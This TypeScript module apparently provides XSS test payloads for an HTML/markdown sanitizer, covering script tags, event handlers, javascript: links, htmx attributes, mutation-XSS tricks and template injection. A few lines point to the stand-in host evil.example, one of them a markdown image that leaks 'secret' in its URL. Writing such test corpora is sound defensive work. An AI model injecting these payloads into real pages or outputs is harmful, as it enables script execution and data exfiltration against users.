/** Some that stand for their kinds, written for these tests; the whole corpus where it is at hand. */
const few: readonly string[] = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<svg/onload=alert(1)>",
  '"><svg onload=alert(1)>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  '<form action="https://evil.example/"><button>OK</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div hx-get="/settings" hx-trigger="load">',
  '<div data-hx-post="/settings" data-hx-trigger="revealed"></div>',
  '<hx-partial hx-target="#main"><b>gone</b></hx-partial>',
  '<b title="<hx-x autofocus onfocus=alert(1) hx-post=/x ">',
  "</textarea><script>alert(1)</script>",
  "</pre></template><script>alert(1)</script>",
  "![x](https://evil.example/p?d=secret)",
  "![x](//evil.example/p)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "[a](javascript:alert(1))",
  "[a](&#x6A&#x61vascript:alert(1))",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "```html\n<script>alert(1)</script>\n```",
  "```x onload=alert(1)\ncode\n```",
  "| <script>alert(1)</script> |\n| - |\n| <img src=x onerror=alert(1)> |",
  "- [ ] <script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}",
  "\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007",
  "data: x\nevent: reset\nid: 1\n\n",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<button popovertarget=x onbeforetoggle=alert(1)>x</button>",
  '<div hx-on:click="alert(1)" hx-trigger="load" hx-get="/stop"></div>',
  '<b id="main" hx-swap-oob="true">gone</b>',
  '<link rel="preload" as="image" href="https://evil.example/x.png">',
  "--></script><script>alert(1)</script>",
  "]]><script>alert(1)</script>",
  "'-alert(1)-'",
  "${alert(1)}",
  "[a](java\tscript:alert(1))",
  "[a](  javascript:alert(1))",
  '<a href="jav&#x09;ascript:alert(1)">a</a>',
  "[![a](https://evil.example/i)](https://evil.example)",
  "![x][y]\n\n[y]: https://evil.example/p",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
];

const folder = process.env["MONKEYCLAW_CORPORA"];

async function readCorpus(): Promise<readonly string[]> {
  if (folder === undefined) return [];
  const corpus: unknown = await Bun.file(`${folder}/xss.json`).json();
  const { cases } = corpus as { readonly cases: readonly { readonly payload: string }[] };
  return cases.map(({ payload }) => payload);
}

export const payloads: readonly string[] = [...few, ...(await readCorpus())];
